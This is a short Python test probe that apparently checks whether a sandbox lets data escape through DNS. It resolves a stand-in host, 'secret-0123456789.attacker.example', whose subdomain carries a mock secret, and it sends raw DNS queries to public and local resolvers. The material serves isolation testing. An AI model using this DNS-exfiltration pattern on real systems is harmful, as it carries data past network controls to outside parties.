"""X02: look up names, whose servers would carry data out

Stopped by: no network, and no resolver is configured.
"""

import socket


def attacked(numbers):
    for name in ("example.com", "secret-0123456789.attacker.example"):
        try:
            print("GOT", socket.getaddrinfo(name, 80))
        except OSError:
            pass
        for server in ("8.8.8.8", "127.0.0.11", "127.0.0.53"):
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as query:
                    query.settimeout(0.1)
                    query.sendto(bytes(12) + b"\7example\3com\0\0\1\0\1", (server, 53))
                    print("GOT", query.recv(512))
            except OSError:
                continue
    return numbers
